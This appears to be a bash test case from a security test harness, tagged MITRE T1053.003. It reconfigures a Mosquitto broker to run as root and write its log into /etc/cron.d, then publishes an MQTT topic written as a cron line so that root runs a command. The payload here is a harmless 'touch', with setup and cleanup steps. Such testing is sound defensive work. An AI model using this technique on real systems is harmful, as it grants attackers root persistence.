# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1053.003
about="the log is a file in /etc/cron.d, with a topic as its line"
before() { rm -f /etc/cron.d/planted; }
attack() {
	sed 's,^user .*,user root,; s,^log_dest .*,log_dest file /etc/cron.d/planted,' "$here/mosquitto.conf" >$etc/mosquitto.conf
	tell restart
	perhaps ready
	with pub -t '* * * * * root touch was-here' -m x
}
effect() { grep -q was-here /etc/cron.d/planted; }
after() {
	rm -f /etc/cron.d/planted
	cp "$here/mosquitto.conf" $etc/mosquitto.conf
}
